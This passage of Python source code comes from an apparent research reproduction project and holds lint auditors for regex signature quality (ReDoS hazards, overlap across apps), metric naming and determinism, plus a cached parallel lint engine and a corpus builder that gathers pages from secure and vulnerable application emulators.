            if av[0] > 0:
                return first
            continue  # optional: next item can also start the match
        if op is sre_constants.SUBPATTERN:
            return _first_literals(av[3])
        if op is sre_constants.BRANCH:
            union: set[object] = set()
            for branch in av[1]:
                union |= _first_literals(branch)
            return union
        if op is sre_constants.AT:
            continue
        return {"any"}
    return set()


def _sets_overlap(one: set[object], two: set[object]) -> bool:
    if not one or not two:
        return False
    if "any" in one or "any" in two:
        return True
    return bool(one & two)


def backtracking_hazards(pattern: str) -> list[str]:
    """Human-readable descriptions of ReDoS-shaped constructs."""
    hazards: list[str] = []

    def walk(parsed, under_repeat: bool) -> None:
        for op, av in parsed:
            if op in _REPEAT_OPS:
                variable = _is_variable_repeat(op, av)
                if variable and under_repeat:
                    hazards.append("nested unbounded quantifiers")
                if variable and _contains_variable_repeat(av[2]):
                    hazards.append("quantifier over a variable-length group")
                walk(av[2], under_repeat or av[1] > 1)
            elif op is sre_constants.SUBPATTERN:
                walk(av[3], under_repeat)
            elif op is sre_constants.BRANCH:
                if under_repeat:
                    firsts = [_first_literals(branch) for branch in av[1]]
                    for i, left in enumerate(firsts):
                        if any(_sets_overlap(left, right) for right in firsts[i + 1:]):
                            hazards.append("ambiguous alternation under a repeat")
                            break
                for branch in av[1]:
                    walk(branch, under_repeat)

    walk(sre_parse.parse(pattern), under_repeat=False)
    # Deduplicate preserving first-seen order.
    return list(dict.fromkeys(hazards))


def longest_guaranteed_literal_run(pattern: str) -> int:
    """Length of the longest literal run every match must contain."""

    def run_of(parsed) -> int:
        best = 0
        current = 0
        for op, av in parsed:
            if op is sre_constants.LITERAL:
                current += 1
            elif op in _REPEAT_OPS and av[0] == av[1]:
                # Fixed repeat: contributes its subpattern's run min times;
                # a purely literal subpattern extends the current run.
                inner = av[2]
                if all(o is sre_constants.LITERAL for o, _ in inner):
                    current += av[0] * len(inner)
                else:
                    best = max(best, current, run_of(inner))
                    current = 0
            elif op is sre_constants.SUBPATTERN:
                best = max(best, current, run_of(av[3]))
                current = 0
            elif op is sre_constants.BRANCH:
                # Either branch may match: only its own guaranteed run counts.
                best = max(best, current, min(run_of(b) for b in av[1]))
                current = 0
            elif op is sre_constants.AT:
                continue  # anchors neither extend nor break a run
            else:
                best = max(best, current)
                current = 0
        return max(best, current)

    return run_of(sre_parse.parse(pattern))


class SignatureAuditor:
    """Audit the signature corpus of one source tree.

    ``root`` is the ``repro`` package directory.  ``corpus`` maps
    ``slug -> {page id -> body}``; pass ``None`` to audit shape only
    (recall/precision checks need ground-truth pages).  ``known_slugs``
    and ``expected_count`` validate the corpus shape itself; either may
    be ``None`` to skip.
    """

    def __init__(
        self,
        root: Path,
        corpus: dict[str, dict[str, str]] | None = None,
        known_slugs: frozenset[str] | None = None,
        expected_count: int | None = 5,
    ) -> None:
        self.root = Path(root)
        self.corpus = corpus
        self.known_slugs = known_slugs
        self.expected_count = expected_count

    @property
    def prefilter_path(self) -> Path:
        return self.root / "core" / "prefilter.py"

    def _rel(self) -> str:
        path = self.prefilter_path
        return (Path(self.root.name) / path.relative_to(self.root)).as_posix()

    def run(self) -> list[Finding]:
        rel = self._rel()
        try:
            triples = extract_signatures(self.prefilter_path)
        except (OSError, SyntaxError, ValueError) as error:
            return [Finding(rel, 0, "LNT001", f"cannot audit signatures: {error}")]

        findings: list[Finding] = []
        per_slug: dict[str, list[tuple[str, int]]] = {}
        for slug, pattern, line in triples:
            per_slug.setdefault(slug, []).append((pattern, line))

        for slug, patterns in per_slug.items():
            first_line = patterns[0][1]
            if self.known_slugs is not None and slug not in self.known_slugs:
                findings.append(Finding(
                    rel, first_line, "SIG006",
                    f"signature slug {slug!r} is not an in-scope catalog app",
                ))
            if self.expected_count is not None and len(patterns) != self.expected_count:
                findings.append(Finding(
                    rel, first_line, "SIG006",
                    f"{slug!r} has {len(patterns)} signatures, expected "
                    f"{self.expected_count}",
                ))

        for slug, pattern, line in triples:
            findings.extend(self._audit_pattern(rel, slug, pattern, line))
        return findings

    def _audit_pattern(
        self, rel: str, slug: str, pattern: str, line: int
    ) -> list[Finding]:
        findings: list[Finding] = []
        try:
            compiled = re.compile(pattern)
        except re.error as error:
            return [Finding(rel, line, "SIG001",
                            f"{slug}: {pattern!r} does not compile: {error}")]

        for hazard in backtracking_hazards(pattern):
            findings.append(Finding(
                rel, line, "SIG002", f"{slug}: {pattern!r} has {hazard}"
            ))

        if compiled.search(""):
            findings.append(Finding(
                rel, line, "SIG003", f"{slug}: {pattern!r} matches the empty string"
            ))
        else:
            run = longest_guaranteed_literal_run(pattern)
            if run < MIN_LITERAL_RUN:
                findings.append(Finding(
                    rel, line, "SIG003",
                    f"{slug}: {pattern!r} guarantees only a {run}-char literal "
                    f"run (need {MIN_LITERAL_RUN})",
                ))

        if findings or self.corpus is None or slug not in self.corpus:
            # Shape problems make corpus verdicts meaningless; unknown
            # slugs (fixture trees) have no ground-truth pages to judge.
            return findings

        own_pages = self.corpus[slug]
        if not any(compiled.search(body) for body in own_pages.values()):
            findings.append(Finding(
                rel, line, "SIG004",
                f"{slug}: {pattern!r} matches none of its {len(own_pages)} "
                f"canned pages",
            ))
        for other in sorted(self.corpus):
            if other == slug:
                continue
            hits = sorted(
                page for page, body in self.corpus[other].items()
                if compiled.search(body)
            )
            if hits:
                findings.append(Finding(
                    rel, line, "SIG005",
                    f"{slug}: {pattern!r} also matches {other} page(s): "
                    f"{', '.join(hits[:3])}",
                ))
        return findings
