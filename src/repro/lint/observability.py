"""Observability auditor (``OBS*`` rules).

The metrics registry creates a series per ``(name, labels)`` pair and
keeps every series forever — the right design for a bounded name space
and exactly the wrong one for names built from data.  A metric named
with an f-string holding a host, port, or slug value mints a fresh
series per distinct value: the registry balloons, the Prometheus
exposition balloons with it, and cross-run diffs stop meaning anything.
The sanctioned pattern is a *constant* family name with the variability
in labels (``counter("plugin_verdicts_total", plugin=slug)``).

``OBS001`` flags every call to a registry factory method —
``.counter(...)``, ``.gauge(...)``, ``.histogram(...)`` — whose name
argument is built dynamically:

* an f-string with at least one interpolated field;
* string concatenation or ``%`` formatting with a non-constant side;
* a ``.format(...)`` call on anything.

Constant names reaching the call through a plain variable
(``FUNNEL_METRIC``) are fine — the auditor only rejects expressions
that *construct* a string at the call site.
"""

from __future__ import annotations

import ast
from pathlib import Path

from repro.lint.findings import Finding

#: registry factory methods whose first argument is a metric family name
_FACTORY_METHODS = frozenset({"counter", "gauge", "histogram"})


def _is_constant_str(node: ast.expr) -> bool:
    return isinstance(node, ast.Constant) and isinstance(node.value, str)


def _dynamic_name_reason(node: ast.expr) -> str | None:
    """Why this name expression is dynamically built, or ``None``."""
    if isinstance(node, ast.JoinedStr):
        if any(isinstance(v, ast.FormattedValue) for v in node.values):
            return "f-string with interpolated fields"
        return None  # f"constant" — odd but harmless
    if isinstance(node, ast.BinOp) and isinstance(node.op, (ast.Add, ast.Mod)):
        if _is_constant_str(node.left) and _is_constant_str(node.right):
            return None
        operator = "+" if isinstance(node.op, ast.Add) else "%"
        return f"string built with {operator!r} from non-constant parts"
    if (
        isinstance(node, ast.Call)
        and isinstance(node.func, ast.Attribute)
        and node.func.attr == "format"
    ):
        return "str.format(...) call"
    return None


class _ModuleAuditor(ast.NodeVisitor):
    def __init__(self, rel: str) -> None:
        self.rel = rel
        self.findings: list[Finding] = []

    def visit_Call(self, node: ast.Call) -> None:
        func = node.func
        if (
            isinstance(func, ast.Attribute)
            and func.attr in _FACTORY_METHODS
            and node.args
        ):
            reason = _dynamic_name_reason(node.args[0])
            if reason is not None:
                self.findings.append(Finding(
                    self.rel, node.lineno, "OBS001",
                    f"metric name passed to .{func.attr}() is an "
                    f"{reason}; use a constant family name and put the "
                    "variability in labels",
                ))
        self.generic_visit(node)


class ObservabilityAuditor:
    """Audit every module under ``root`` for metric-registry misuse."""

    def __init__(self, root: Path) -> None:
        self.root = Path(root)

    def _rel(self, path: Path) -> str:
        return (Path(self.root.name) / path.relative_to(self.root)).as_posix()

    def run(self) -> list[Finding]:
        findings: list[Finding] = []
        for path in sorted(self.root.rglob("*.py")):
            if "__pycache__" in path.parts:
                continue
            findings.extend(self.audit_file(path))
        return findings

    def audit_file(self, path: Path) -> list[Finding]:
        rel = self._rel(path)
        try:
            tree = ast.parse(path.read_text(), filename=str(path))
        except (OSError, SyntaxError) as error:
            return [Finding(rel, 0, "LNT001", f"cannot parse: {error}")]
        auditor = _ModuleAuditor(rel)
        auditor.visit(tree)
        return auditor.findings
