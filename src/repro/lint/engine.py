"""Incremental, parallel lint engine.

The analyzer count keeps growing (six families now) and the whole-tree
walk is pure overhead when nothing changed, so the driver borrows the
scan engine's own playbook: split the work into independent units, run
them on a pool, fold the results in canonical order — and make all of
it *invisible to the data*.  The report is a pure function of the tree:
byte-identical across ``jobs`` ∈ {1, N}, across cold and warm cache,
and across any interleaving of unit completion (the acceptance tests
pin all three).

Work units come in two scopes:

* **file** — the determinism and observability passes audit one module
  at a time, so each (analyzer, file) pair is a unit keyed by the
  file's content hash.  Editing one file re-lints one file.
* **tree** — the signature, plugin, and concurrency passes are
  whole-program analyses (cross-file overlap, duplicate slugs, the
  worker call graph); their units are keyed by a digest over *every*
  file hash, so any edit anywhere re-runs them, and an untouched tree
  re-runs nothing at all.

The cache (``.reprolint-cache.json``, git-ignored) stores finding
tuples per unit key plus the file-hash manifest; hits skip the analyzer
entirely.  Findings are folded through
:func:`~repro.lint.findings.sort_findings` regardless of which units
ran live, which is what makes cache state and job count unobservable in
the output.  Cache corruption or version drift degrades to a cold run.

Wall-clock timing for the CI artifact goes through
:func:`repro.obs.profile.wall_now` — the one sanctioned wall read —
and lives only in :class:`EngineStats`, never in the report.
"""

from __future__ import annotations

import hashlib
import json
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path

from repro.lint.findings import Finding, sort_findings
from repro.obs.profile import wall_now

#: the git-ignored cache file, looked up relative to the CWD by default
DEFAULT_CACHE = ".reprolint-cache.json"

#: bumped whenever a rule or analyzer changes behaviour, so stale caches
#: invalidate wholesale instead of serving findings from an old ruleset
CACHE_VERSION = 2


@dataclass
class EngineStats:
    """One run's accounting — the CI timing/cache artifact payload."""

    jobs: int = 1
    files_total: int = 0
    changed_files: int = 0
    units_total: int = 0
    units_from_cache: int = 0
    units_executed: int = 0
    units_skipped: int = 0          # --changed-only scope cuts
    by_analyzer: dict[str, dict] = field(default_factory=dict)
    cache_path: str | None = None
    cache_loaded: bool = False
    changed_only: bool = False
    elapsed_wall_seconds: float = 0.0

    def note_unit(self, analyzer: str, outcome: str) -> None:
        per = self.by_analyzer.setdefault(
            analyzer, {"executed": 0, "from_cache": 0, "skipped": 0}
        )
        per[outcome] += 1
        self.units_total += 1
        if outcome == "executed":
            self.units_executed += 1
        elif outcome == "from_cache":
            self.units_from_cache += 1
        else:
            self.units_skipped += 1

    def to_dict(self) -> dict:
        return {
            "jobs": self.jobs,
            "files_total": self.files_total,
            "changed_files": self.changed_files,
            "units_total": self.units_total,
            "units_executed": self.units_executed,
            "units_from_cache": self.units_from_cache,
            "units_skipped": self.units_skipped,
            "by_analyzer": {
                name: dict(self.by_analyzer[name])
                for name in sorted(self.by_analyzer)
            },
            "cache_path": self.cache_path,
            "cache_loaded": self.cache_loaded,
            "changed_only": self.changed_only,
            "elapsed_wall_seconds": self.elapsed_wall_seconds,
        }


@dataclass
class EngineResult:
    findings: list[Finding]
    stats: EngineStats


@dataclass
class _Unit:
    """One schedulable piece of lint work."""

    analyzer: str
    key: str                    # cache identity (analyzer + scope + hash)
    rel: str | None             # file-scope units carry their file
    run: object                 # () -> list[Finding]


class LintEngine:
    """Plan units, reuse cached ones, fan the rest out, fold, save."""

    def __init__(
        self,
        root: Path,
        *,
        with_corpus: bool = True,
        jobs: int = 1,
        cache_path: Path | str | None = DEFAULT_CACHE,
        changed_only: bool = False,
        analyzers: tuple[str, ...] | None = None,
    ) -> None:
        if jobs < 1:
            raise ValueError("jobs must be at least 1")
        self.root = Path(root)
        self.with_corpus = with_corpus
        self.jobs = jobs
        self.cache_path = Path(cache_path) if cache_path is not None else None
        self.changed_only = changed_only
        self.analyzers = analyzers

    # -- the run -------------------------------------------------------------

    def run(self) -> EngineResult:
        start = wall_now()
        stats = EngineStats(
            jobs=self.jobs,
            cache_path=(
                str(self.cache_path) if self.cache_path is not None else None
            ),
            changed_only=self.changed_only,
        )
        files = self._discover_files()
        hashes = {rel: self._hash_file(path) for rel, path in files.items()}
        stats.files_total = len(files)

        cache = self._load_cache()
        stats.cache_loaded = cache is not None
        old_manifest = (cache or {}).get("files", {})
        old_entries = (cache or {}).get("entries", {})
        changed = sorted(
            rel for rel, digest in hashes.items()
            if old_manifest.get(rel) != digest
        )
        stats.changed_files = len(changed)

        units = self._plan_units(files, hashes, bool(changed))
        to_run: list[_Unit] = []
        reused: list[list[Finding]] = []
        entries: dict[str, list] = {}
        for unit in units:
            if self.changed_only and unit.rel is not None and (
                unit.rel not in changed
            ):
                stats.note_unit(unit.analyzer, "skipped")
                continue
            cached = old_entries.get(unit.key)
            if cached is not None:
                findings = [Finding(*row) for row in cached]
                reused.append(findings)
                entries[unit.key] = cached
                stats.note_unit(unit.analyzer, "from_cache")
                continue
            to_run.append(unit)

        executed = self._execute(to_run)
        for unit, findings in executed:
            entries[unit.key] = [
                [f.path, f.line, f.rule, f.message] for f in findings
            ]
            stats.note_unit(unit.analyzer, "executed")

        findings = sort_findings(
            [f for batch in reused for f in batch]
            + [f for _, batch in executed for f in batch]
        )
        if self.changed_only:
            in_scope = set(changed)
            findings = [f for f in findings if f.path in self._rels_for(
                in_scope, files
            )]
        self._save_cache(hashes, entries)
        stats.elapsed_wall_seconds = wall_now() - start
        return EngineResult(findings=findings, stats=stats)

    # -- unit planning -------------------------------------------------------

    def _discover_files(self) -> dict[str, Path]:
        files: dict[str, Path] = {}
        for path in sorted(self.root.rglob("*.py")):
            if "__pycache__" in path.parts:
                continue
            rel = (
                Path(self.root.name) / path.relative_to(self.root)
            ).as_posix()
            files[rel] = path
        return files

    @staticmethod
    def _hash_file(path: Path) -> str:
        return hashlib.sha256(path.read_bytes()).hexdigest()

    @staticmethod
    def _tree_digest(hashes: dict[str, str]) -> str:
        acc = hashlib.sha256()
        for rel in sorted(hashes):
            acc.update(rel.encode())
            acc.update(hashes[rel].encode())
        return acc.hexdigest()

    def _plan_units(
        self, files: dict[str, Path], hashes: dict[str, str], any_changed: bool
    ) -> list[_Unit]:
        from repro.lint.concurrency import ConcurrencyAuditor
        from repro.lint.determinism import DeterminismAuditor
        from repro.lint.observability import ObservabilityAuditor
        from repro.lint.plugins import PluginContractAuditor
        from repro.lint.signatures import SignatureAuditor

        units: list[_Unit] = []
        det = DeterminismAuditor(self.root)
        obs = ObservabilityAuditor(self.root)
        for rel in sorted(files):
            path = files[rel]
            units.append(_Unit(
                "determinism", f"determinism::{rel}::{hashes[rel]}", rel,
                (lambda p=path: det.audit_file(p)),
            ))
            units.append(_Unit(
                "observability", f"observability::{rel}::{hashes[rel]}", rel,
                (lambda p=path: obs.audit_file(p)),
            ))
        tree = self._tree_digest(hashes)

        def run_signatures() -> list[Finding]:
            corpus = None
            if self.with_corpus:
                from repro.lint.corpus import build_corpus

                corpus = build_corpus()
            return SignatureAuditor(
                self.root, corpus=corpus, known_slugs=self._known_slugs()
            ).run()

        def run_plugins() -> list[Finding]:
            return PluginContractAuditor(
                self.root, known_slugs=self._known_slugs()
            ).run()

        def run_concurrency() -> list[Finding]:
            return ConcurrencyAuditor(self.root).run()

        corpus_tag = "corpus" if self.with_corpus else "shape"
        units.append(_Unit(
            "signatures", f"signatures-{corpus_tag}::<tree>::{tree}", None,
            run_signatures,
        ))
        units.append(_Unit(
            "plugins", f"plugins::<tree>::{tree}", None, run_plugins,
        ))
        units.append(_Unit(
            "concurrency", f"concurrency::<tree>::{tree}", None,
            run_concurrency,
        ))
        if self.analyzers is not None:
            units = [u for u in units if u.analyzer in self.analyzers]
        return units

    @staticmethod
    def _known_slugs() -> frozenset[str]:
        from repro.apps.catalog import in_scope_apps

        return frozenset(spec.slug for spec in in_scope_apps())

    @staticmethod
    def _rels_for(in_scope: set[str], files: dict[str, Path]) -> set[str]:
        return {rel for rel in files if rel in in_scope}

    # -- execution -----------------------------------------------------------

    def _execute(
        self, units: list[_Unit]
    ) -> list[tuple[_Unit, list[Finding]]]:
        """Run live units, single-threaded or fanned out.

        Workers return finding lists and touch nothing shared — the
        fold (sorting, cache entries, stats) happens on the caller's
        thread, same discipline the scan engine's DET005/RACE rules
        enforce on the code being linted.
        """
        if not units:
            return []
        if self.jobs == 1:
            return [(unit, unit.run()) for unit in units]
        with ThreadPoolExecutor(max_workers=self.jobs) as pool:
            futures = [pool.submit(unit.run) for unit in units]
            return [
                (unit, future.result())
                for unit, future in zip(units, futures)
            ]

    # -- cache ---------------------------------------------------------------

    def _load_cache(self) -> dict | None:
        if self.cache_path is None:
            return None
        try:
            payload = json.loads(self.cache_path.read_text())
        except (OSError, ValueError):
            return None
        if not isinstance(payload, dict):
            return None
        if payload.get("version") != CACHE_VERSION:
            return None
        if payload.get("root") != self.root.name:
            return None
        files = payload.get("files")
        entries = payload.get("entries")
        if not isinstance(files, dict) or not isinstance(entries, dict):
            return None
        return payload

    def _save_cache(
        self, hashes: dict[str, str], entries: dict[str, list]
    ) -> None:
        if self.cache_path is None:
            return
        payload = {
            "version": CACHE_VERSION,
            "root": self.root.name,
            "files": {rel: hashes[rel] for rel in sorted(hashes)},
            "entries": {key: entries[key] for key in sorted(entries)},
        }
        try:
            self.cache_path.write_text(
                json.dumps(payload, indent=1, sort_keys=True) + "\n"
            )
        except OSError:  # a read-only checkout must still lint
            return
