"""Determinism auditor (``DET*`` rules).

The checkpoint layer promises byte-identical resume and the telemetry
layer byte-identical export; both hold only while every value in the
system derives from the seeded :class:`~repro.util.rand` /
:class:`~repro.util.clock.SimClock` machinery.  A single wall-clock
read, entropy draw, or unordered ``set`` walk feeding output would
break replay silently — long after the commit that introduced it.

This pass walks every module under the scanned root and flags:

* ``DET001`` wall-clock reads (``time.time``, ``time.monotonic``,
  ``time.perf_counter`` and friends, ``datetime.now``/``utcnow``/
  ``today``);
* ``DET002`` entropy sources (``os.urandom``, ``uuid.uuid1``/``uuid4``,
  anything from ``secrets``);
* ``DET003`` unseeded randomness (module-level ``random.*`` calls,
  ``random.Random()`` with no seed argument);
* ``DET004`` iteration directly over a set display, ``set(...)`` call,
  or set comprehension (wrap in ``sorted(...)`` to fix);
* ``DET005`` worker-pool callables (functions handed to ``.submit(...)``
  or ``.map(...)``) that write state they do not own — ``self``
  attributes, free names, ``global``/``nonlocal`` — instead of returning
  results for the main thread to fold in canonical order.  Concurrent
  writes are scheduling-ordered, so any output derived from them varies
  with the worker count; the parallel engine's shard-fold API is the
  sanctioned alternative (and its progress counter is baselined);
* ``DET006`` unbounded loops — ``while True:`` / ``while 1:`` — which
  carry no structural guarantee of termination.  The supervised runtime
  promises every sweep ends (degraded if need be); a loop only a
  well-behaved peer can exit breaks that promise on the first tarpit.
  Iterate ``range(budget)``, charge a clock deadline, or demand
  measurable progress per pass instead; genuinely sanctioned loops go
  in the lint baseline.

Import aliases are tracked per module, so ``from time import time as
now`` does not escape the net; methods on *instances* that merely share
a name (``self.clock.now()``, ``rng.random()``) are not flagged.
"""

from __future__ import annotations

import ast
from pathlib import Path

from repro.lint.findings import Finding

#: (module, attribute) -> rule for forbidden function calls
_FORBIDDEN_CALLS: dict[tuple[str, str], str] = {
    ("time", "time"): "DET001",
    ("time", "time_ns"): "DET001",
    ("time", "monotonic"): "DET001",
    ("time", "monotonic_ns"): "DET001",
    ("time", "perf_counter"): "DET001",
    ("time", "perf_counter_ns"): "DET001",
    ("time", "process_time"): "DET001",
    ("datetime", "now"): "DET001",
    ("datetime", "utcnow"): "DET001",
    ("datetime", "today"): "DET001",
    ("date", "today"): "DET001",
    ("os", "urandom"): "DET002",
    ("os", "getrandom"): "DET002",
    ("uuid", "uuid1"): "DET002",
    ("uuid", "uuid4"): "DET002",
}

#: every call into these modules is forbidden outright
_FORBIDDEN_MODULES: dict[str, str] = {"secrets": "DET002"}

_SET_CONSUMERS_OK = frozenset({
    "sorted", "len", "sum", "min", "max", "any", "all", "frozenset", "set",
})

#: methods that hand a callable to a worker pool (DET005 entry points)
_POOL_DISPATCH_METHODS = frozenset({"submit", "map"})


class _ModuleAuditor(ast.NodeVisitor):
    def __init__(self, rel: str) -> None:
        self.rel = rel
        self.findings: list[Finding] = []
        #: local alias -> module name ("import time as t" -> {"t": "time"})
        self.module_aliases: dict[str, str] = {}
        #: local name -> (module, function) for "from x import y [as z]"
        self.function_aliases: dict[str, tuple[str, str]] = {}
        #: function name -> defs, for resolving worker-pool callables
        self._function_defs: dict[str, list[ast.AST]] = {}
        #: names handed to .submit()/.map() as the callable
        self._worker_callables: list[str] = []

    # -- import tracking -----------------------------------------------------

    def visit_Import(self, node: ast.Import) -> None:
        for alias in node.names:
            self.module_aliases[alias.asname or alias.name.split(".")[0]] = (
                alias.name
            )
        self.generic_visit(node)

    def visit_ImportFrom(self, node: ast.ImportFrom) -> None:
        if node.module is not None:
            for alias in node.names:
                local = alias.asname or alias.name
                self.function_aliases[local] = (node.module, alias.name)
                # "from datetime import datetime" imports a class whose
                # methods we police; track it like a module alias.
                if alias.name in ("datetime", "date"):
                    self.module_aliases[local] = alias.name
        self.generic_visit(node)

    # -- call sites ----------------------------------------------------------

    def _flag(self, node: ast.AST, rule: str, message: str) -> None:
        self.findings.append(Finding(self.rel, node.lineno, rule, message))

    def visit_FunctionDef(self, node: ast.FunctionDef) -> None:
        self._function_defs.setdefault(node.name, []).append(node)
        self.generic_visit(node)

    def visit_AsyncFunctionDef(self, node: ast.AsyncFunctionDef) -> None:
        self._function_defs.setdefault(node.name, []).append(node)
        self.generic_visit(node)

    def visit_Call(self, node: ast.Call) -> None:
        func = node.func
        if (
            isinstance(func, ast.Attribute)
            and func.attr in _POOL_DISPATCH_METHODS
            and node.args
        ):
            target = node.args[0]
            if isinstance(target, ast.Attribute):
                self._worker_callables.append(target.attr)
            elif isinstance(target, ast.Name):
                self._worker_callables.append(target.id)
        if (
            isinstance(func, ast.Attribute)
            and isinstance(func.value, ast.Attribute)
            and isinstance(func.value.value, ast.Name)
            and func.value.value.id in self.module_aliases
        ):
            # Two-level chains like datetime.datetime.now() / datetime.date.today().
            rule = _FORBIDDEN_CALLS.get((func.value.attr, func.attr))
            if rule is not None:
                self._flag(node, rule,
                           f"call to {func.value.attr}.{func.attr}()")
        elif isinstance(func, ast.Attribute) and isinstance(func.value, ast.Name):
            owner = self.module_aliases.get(func.value.id)
            if owner is not None:
                base = owner.split(".")[-1]
                rule = _FORBIDDEN_CALLS.get((base, func.attr))
                if rule is not None:
                    self._flag(node, rule, f"call to {owner}.{func.attr}()")
                module_rule = _FORBIDDEN_MODULES.get(owner)
                if module_rule is not None:
                    self._flag(node, module_rule, f"call to {owner}.{func.attr}()")
                if owner == "random":
                    self._audit_random(node, func.attr)
        elif isinstance(func, ast.Name):
            target = self.function_aliases.get(func.id)
            if target is not None:
                module, original = target
                base = module.split(".")[-1]
                rule = _FORBIDDEN_CALLS.get((base, original))
                if rule is not None:
                    self._flag(node, rule, f"call to {module}.{original}()")
                module_rule = _FORBIDDEN_MODULES.get(module)
                if module_rule is not None:
                    self._flag(node, module_rule, f"call to {module}.{original}()")
                if module == "random" and original != "Random":
                    self._flag(node, "DET003",
                               f"call to random.{original}() uses the shared "
                               "unseeded generator")
                if module == "random" and original == "Random" and not node.args:
                    self._flag(node, "DET003", "random.Random() without a seed")
        self.generic_visit(node)

    def _audit_random(self, node: ast.Call, attr: str) -> None:
        if attr == "SystemRandom":
            self._flag(node, "DET002", "random.SystemRandom() reads OS entropy")
        elif attr == "Random":
            if not node.args:
                self._flag(node, "DET003", "random.Random() without a seed")
        else:
            self._flag(node, "DET003",
                       f"call to random.{attr}() uses the shared unseeded "
                       "generator")

    # -- set iteration -------------------------------------------------------

    def _is_set_expression(self, node: ast.expr) -> bool:
        if isinstance(node, (ast.Set, ast.SetComp)):
            return True
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Name):
            return node.func.id in ("set", "frozenset")
        if isinstance(node, ast.BinOp) and isinstance(node.op, (ast.BitOr, ast.BitAnd, ast.Sub)):
            return self._is_set_expression(node.left) or self._is_set_expression(
                node.right
            )
        return False

    def _audit_iteration(self, iterable: ast.expr) -> None:
        if self._is_set_expression(iterable):
            self._flag(iterable, "DET004",
                       "iterating an unordered set; wrap in sorted(...) to "
                       "fix the order")

    def visit_For(self, node: ast.For) -> None:
        self._audit_iteration(node.iter)
        self.generic_visit(node)

    # -- unbounded loops (DET006) --------------------------------------------

    def visit_While(self, node: ast.While) -> None:
        test = node.test
        if isinstance(test, ast.Constant) and bool(test.value):
            self._flag(node, "DET006",
                       "unbounded 'while "
                       f"{ast.unparse(test)}' loop; bound it with a range, "
                       "deadline, or progress check")
        self.generic_visit(node)

    def _visit_comprehensions(self, node) -> None:
        for generator in node.generators:
            self._audit_iteration(generator.iter)
        self.generic_visit(node)

    visit_ListComp = _visit_comprehensions
    visit_GeneratorExp = _visit_comprehensions
    visit_DictComp = _visit_comprehensions

    def visit_SetComp(self, node: ast.SetComp) -> None:
        # Building a set from a set is order-free; only its *iteration*
        # elsewhere is ordering-sensitive.
        self.generic_visit(node)

    # -- worker-pool shared-state writes (DET005) ----------------------------

    def finalize(self) -> None:
        """Audit callables handed to worker pools, after the whole module
        has been walked (the def may appear after the ``.submit`` site)."""
        audited: set[int] = set()
        for name in self._worker_callables:
            for fn in self._function_defs.get(name, []):
                if id(fn) not in audited:
                    audited.add(id(fn))
                    self._audit_worker_callable(fn)

    def _audit_worker_callable(self, fn) -> None:
        args = fn.args
        params = {
            a.arg
            for a in (
                *args.posonlyargs, *args.args, *args.kwonlyargs,
                *([args.vararg] if args.vararg else []),
                *([args.kwarg] if args.kwarg else []),
            )
        }
        owned = set(params)
        for node in ast.walk(fn):
            if isinstance(node, ast.Name) and isinstance(node.ctx, ast.Store):
                owned.add(node.id)
        for node in ast.walk(fn):
            if isinstance(node, (ast.Global, ast.Nonlocal)):
                self._flag(
                    node, "DET005",
                    f"worker callable {fn.name!r} declares "
                    f"{'global' if isinstance(node, ast.Global) else 'nonlocal'}"
                    f" {', '.join(node.names)}; worker results must be "
                    "returned and folded on the main thread",
                )
                continue
            targets: list[ast.expr] = []
            if isinstance(node, ast.Assign):
                targets = list(node.targets)
            elif isinstance(node, (ast.AugAssign, ast.AnnAssign)):
                targets = [node.target]
            for target in targets:
                self._audit_worker_write(fn, target, owned)

    def _audit_worker_write(self, fn, target: ast.expr, owned: set[str]) -> None:
        if isinstance(target, (ast.Tuple, ast.List)):
            for element in target.elts:
                self._audit_worker_write(fn, element, owned)
            return
        root = target
        through_container = False
        while isinstance(root, (ast.Attribute, ast.Subscript)):
            through_container = True
            root = root.value
        if not through_container or not isinstance(root, ast.Name):
            return  # a plain local rebind, or too dynamic to judge
        if root.id == "self" or root.id not in owned:
            self._flag(
                target, "DET005",
                f"worker callable {fn.name!r} writes shared state "
                f"{ast.unparse(target)!r}; concurrent writes are "
                "scheduling-ordered — return shard results and fold them "
                "on the main thread in canonical order",
            )


class DeterminismAuditor:
    """Audit every module under ``root`` for replay-breaking constructs."""

    def __init__(self, root: Path) -> None:
        self.root = Path(root)

    def _rel(self, path: Path) -> str:
        return (Path(self.root.name) / path.relative_to(self.root)).as_posix()

    def run(self) -> list[Finding]:
        findings: list[Finding] = []
        for path in sorted(self.root.rglob("*.py")):
            if "__pycache__" in path.parts:
                continue
            findings.extend(self.audit_file(path))
        return findings

    def audit_file(self, path: Path) -> list[Finding]:
        rel = self._rel(path)
        try:
            tree = ast.parse(path.read_text(), filename=str(path))
        except (OSError, SyntaxError) as error:
            return [Finding(rel, 0, "LNT001", f"cannot parse: {error}")]
        auditor = _ModuleAuditor(rel)
        auditor.visit(tree)
        auditor.finalize()
        return auditor.findings
