"""The canned-page ground-truth corpus for signature auditing.

Every in-scope application emulator is instantiated in both its secure
and its vulnerable configuration, and every canned GET path (exact
routes plus the per-app query probes from Table 10) is fetched.  The
resulting ``slug -> {page id -> body}`` mapping is what stage II's
signatures are audited against: a signature that matches none of its own
app's pages is dead weight, and one that matches another app's pages
erodes stage-II precision.

The corpus is deterministic: fixed instantiation order, sorted paths,
and emulators that are themselves seeded by construction.
"""

from __future__ import annotations

from repro.apps.base import WebApplication
from repro.apps.catalog import create_instance, in_scope_apps
from repro.net.http import HttpRequest
from repro.util.errors import ConfigError

#: page ids are ``<config>:<path>``; config order is fixed for stability
_CONFIGS: tuple[str, ...] = ("secure", "vulnerable")


def _instance_pages(instance: WebApplication, config: str) -> dict[str, str]:
    pages: dict[str, str] = {}
    for path in instance.canned_paths():
        response = instance.handle(HttpRequest("GET", path))
        if response.body:
            pages[f"{config}:{path}"] = response.body
    return pages


def app_pages(slug: str) -> dict[str, str]:
    """All canned pages of one application, across both configurations.

    Bodies of redirects are empty and drop out; error pages (401 walls,
    404 placeholders) stay in — stage II sees those bodies too, so
    signatures must be judged against them.
    """
    pages: dict[str, str] = {}
    for config in _CONFIGS:
        try:
            instance = create_instance(slug, vulnerable=(config == "vulnerable"))
        except ConfigError:
            # Polynote-style apps that cannot be secured fall back to the
            # one configuration they have.
            continue
        pages.update(_instance_pages(instance, config))
    return pages


def build_corpus() -> dict[str, dict[str, str]]:
    """``slug -> {page id -> body}`` for the 18 in-scope applications."""
    return {spec.slug: app_pages(spec.slug) for spec in in_scope_apps()}
