"""Concurrency & pickle-boundary auditor (``RACE*`` / ``PKL*`` rules).

PR 7 moved shard execution onto a real process pool and paid for three
